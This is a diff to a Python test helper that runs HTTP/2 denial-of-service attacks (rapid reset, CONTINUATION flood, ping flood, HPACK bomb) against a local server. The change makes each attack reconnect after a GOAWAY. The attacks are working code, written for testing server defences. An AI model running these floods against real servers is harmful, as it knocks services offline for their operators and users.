@@ -6,11 +6,13 @@ Each attack speaks cleartext HTTP/2 with prior knowledge to 127.0.0.1:PORT.
 It prints `attacking` once the attack is under way and keeps it up until it
 has sent its quota and a line has arrived on standard input (the test's
 normal client has been served meanwhile), until the server ends the
-connection, or until LIMIT seconds pass. Then it reads what the server
-still sends and prints one JSON line: the GOAWAY's error code (None when
-none came), the frames sent, whether the server stopped reading (its
-buffers full: TCP pushed back), whether it closed the connection, and the
-responses seen.
+connection, or until LIMIT seconds pass. An attack the server ends with a
+GOAWAY starts again on a new connection until the test is done, as an
+attacker would. Then it reads what the server still sends and prints one
+JSON line: the last GOAWAY's error code (None when none came) and how many
+came over how many connections, the frames sent, whether the server
+stopped reading (its buffers full: TCP pushed back), whether it closed the
+connection, and the responses seen.
 
 The rapid reset uses h2's own client state machine; the other attacks send
 frames h2 would refuse to send, built with hyperframe and hpack.
@@ -39,6 +41,8 @@ from hyperframe.frame import (
 )
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# Frame types (RFC 9113, section 6).
+HEADERS, RST_STREAM, GOAWAY = 0x1, 0x3, 0x7
 LIMIT = 15.0
 REQUEST = [
     (":method", "GET"),
@@ -79,16 +83,26 @@ def literal(name, value, indexed=False):
 REQUEST_BLOCK = b"\x82\x86\x84" + integer(1, 4) + string("127.0.0.1")
 
 
+DONE = [False]
+
+
 def told_done():
-    """Whether the test has written its line: its normal client is done."""
-    readable, _, _ = select.select([sys.stdin], [], [], 0)
-    return bool(readable) and sys.stdin.readline() is not None
+    """Whether the test has written its line (or closed the pipe): its
+    normal client is done."""
+    if not DONE[0]:
+        readable, _, _ = select.select([sys.stdin], [], [], 0)
+        if readable:
+            sys.stdin.readline()
+            DONE[0] = True
+    return DONE[0]
 
 
 class Outcome:
     def __init__(self):
         self.goaway = None
         self.goaway_debug = ""
+        self.goaways = 0
+        self.connections = 0
         self.sent = 0
         self.blocked = False
         self.closed = False
@@ -105,6 +119,8 @@ class Outcome:
                 {
                     "goaway": self.goaway,
                     "goaway_debug": self.goaway_debug,
+                    "goaways": self.goaways,
+                    "connections": self.connections,
                     "sent": self.sent,
                     "blocked": self.blocked,
                     "closed": self.closed,
@@ -146,16 +162,25 @@ class Reader:
         return True
 
     def parse(self):
-        while len(self.buffer) >= 9:
-            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
-            if len(self.buffer) < 9 + length:
-                return
-            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
-            self.buffer = self.buffer[9 + length :]
-            self.seen(frame)
+        view = memoryview(self.buffer)
+        at = 0
+        while len(view) - at >= 9:
+            length = int.from_bytes(view[at : at + 3], "big")
+            if len(view) - at < 9 + length:
+                break
+            # Only these tell the outcome; parsing the flood's hundreds of
+            # thousands of acknowledgements in Python would take seconds.
+            if view[at + 3] in (HEADERS, RST_STREAM, GOAWAY):
+                frame, _ = Frame.parse_frame_header(view[at : at + 9])
+                frame.parse_body(view[at + 9 : at + 9 + length])
+                self.seen(frame)
+            at += 9 + length
+        view.release()
+        self.buffer = self.buffer[at:]
 
     def seen(self, frame):
         if isinstance(frame, GoAwayFrame):
+            self.outcome.goaways += 1
             self.outcome.goaway = h2.errors._error_code_from_int(frame.error_code).name
             self.outcome.goaway_debug = frame.additional_data.decode(errors="replace")
         elif isinstance(frame, HeadersFrame):
@@ -227,10 +252,29 @@ def flood(sock, reader, outcome, batch, quota, read_between=True):
         time.sleep(0.05)
 
 
-def rapid_reset(port):
+def repeated(attack_once):
+    """An attacker the server cuts off comes back: `attack_once(port,
+    outcome)` on connection after connection, until the test's normal
+    client is done, a connection ends without a GOAWAY, or time is up."""
+
+    def attack(port):
+        outcome = Outcome()
+        while True:
+            outcome.goaway = None
+            outcome.connections += 1
+            attack_once(port, outcome)
+            if told_done() or outcome.goaway is None:
+                return outcome
+            if time.monotonic() > outcome.started + LIMIT:
+                return outcome
+
+    return attack
+
+
+@repeated
+def rapid_reset(port, outcome):
     """CVE-2023-44487: open a stream and cancel it at once, thousands of
     times, with h2's client."""
-    outcome = Outcome()
     sock = connect(port)
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
@@ -263,6 +307,7 @@ def rapid_reset(port):
                 events = []
             for event in events:
                 if isinstance(event, h2.events.ConnectionTerminated):
+                    outcome.goaways += 1
                     outcome.goaway = h2.errors._error_code_from_int(event.error_code).name
                     outcome.goaway_debug = (event.additional_data or b"").decode(errors="replace")
                 elif isinstance(event, h2.events.ResponseReceived):
@@ -293,13 +338,13 @@ def rapid_reset(port):
     except h2.exceptions.ProtocolError:
         pass  # the connection was closed: no more streams
     h2_reader.drain()
-    return outcome
+    sock.close()
 
 
-def continuation_flood(port):
+@repeated
+def continuation_flood(port, outcome):
     """CVE-2024-27316 and kin: a HEADERS frame without END_HEADERS, then
     CONTINUATION frames that never end the block."""
-    outcome = Outcome()
     sock, reader = open_raw(port, outcome)
     headers = HeadersFrame(1, REQUEST_BLOCK)
     headers.flags.add("END_STREAM")
@@ -312,7 +357,7 @@ def continuation_flood(port):
 
     flood(sock, reader, outcome, batch, quota=100_000)
     reader.drain()
-    return outcome
+    sock.close()
 
 
 def never_reading_flood(port, frame):
@@ -334,11 +379,11 @@ def ping_flood(port):
     return never_reading_flood(port, PingFrame(0, b"12345678"))
 
 
-def hpack_bomb(port):
+@repeated
+def hpack_bomb(port, outcome):
     """One 4,000-byte header put in the server's dynamic table, then
     referenced by its one-byte index 12,000 times a block, on stream after
     stream: 48 MB of headers per 16 KB frame."""
-    outcome = Outcome()
     sock, reader = open_raw(port, outcome)
     stream = [1]
     table_entry = literal("x-bomb", "a" * 4000, indexed=True)
@@ -354,7 +399,7 @@ def hpack_bomb(port):
 
     flood(sock, reader, outcome, batch, quota=200)
     reader.drain()
-    return outcome
+    sock.close()
 
 
 ATTACKS = {
